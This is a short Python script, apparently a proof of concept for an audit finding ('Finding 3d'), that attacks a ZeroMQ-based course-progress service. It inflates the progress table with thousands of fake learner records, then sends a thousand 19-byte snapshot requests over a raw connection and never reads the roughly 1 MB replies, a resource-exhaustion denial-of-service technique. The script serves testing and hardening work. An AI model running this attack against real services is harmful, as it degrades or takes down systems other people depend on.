"""Finding 3d: 19-byte snapshot requests whose replies (the whole progress table, here about
1.1 MB) are never read."""

import time

import zmq

from abuse import Attack, Client, RawZMTP, arguments, log, pipelined

options = arguments(lambda parser: (parser.add_argument("--learners", type=int, default=3500),
                                    parser.add_argument("--requests", type=int, default=1000)))
attack = Attack(options)
# Progress for many learners makes the snapshot large.
setup = Client(attack.context, options.endpoint)
replies = pipelined(setup, "progress", ({"op": "mark_watched", "learner": f"abuse-learner-{index:05}",
                                         "course": "swiftui-essentials", "lesson": "views-and-modifiers"}
                                        for index in range(options.learners)))
written = sum(1 for reply in replies if reply and reply.get("ok"))
reader = attack.context.socket(zmq.DEALER)
reader.setsockopt(zmq.LINGER, 0)
reader.connect(options.snapshot)
reader.send_multipart([b"SNAPSHOT", b"progress/"])
snapshot = reader.recv_multipart() if reader.poll(30_000) else []  # generous: a loaded machine
snapshot_bytes = sum(len(frame) for frame in snapshot)
log(f"{written} progress writes; one snapshot is {snapshot_bytes} bytes")
reader.close()
# Raw ZMTP with a small receive buffer: a pyzmq socket would read the replies off the wire.
hoarder = RawZMTP(options.snapshot, receive_buffer=4096)
try:
    for _ in range(options.requests):
        hoarder.send_message([b"SNAPSHOT", b"progress/"])
except OSError as error:
    log(f"the server dropped the hoarding connection: {error}")  # what a byte cap per peer may do
time.sleep(options.seconds)
hoarder.close()
attack.finish(progress_writes=written, snapshot_bytes=snapshot_bytes, unread_requests=options.requests)
